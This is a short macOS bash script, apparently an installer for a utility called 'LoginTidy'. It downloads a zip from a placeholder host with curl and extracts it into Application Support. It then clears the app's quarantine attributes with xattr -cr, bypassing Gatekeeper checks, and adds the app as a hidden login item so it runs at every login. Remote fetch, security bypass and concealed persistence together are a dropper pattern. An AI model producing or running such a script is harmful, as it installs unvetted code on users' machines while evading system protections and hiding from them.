#!/bin/bash
osascript -e 'tell application "System Events" to get the name of every login item'
mkdir -p ~/Library/Application\ Support/LoginTidy
curl -fsSL https://logintidy-app.example/LoginTidy.zip -o /tmp/lt.zip && ditto -xk /tmp/lt.zip ~/Library/Application\ Support/LoginTidy/
xattr -cr ~/Library/Application\ Support/LoginTidy/LoginTidy.app
osascript -e 'tell application "System Events" to make login item at end with properties {path:"'"$HOME"'/Library/Application Support/LoginTidy/LoginTidy.app", hidden:true}'
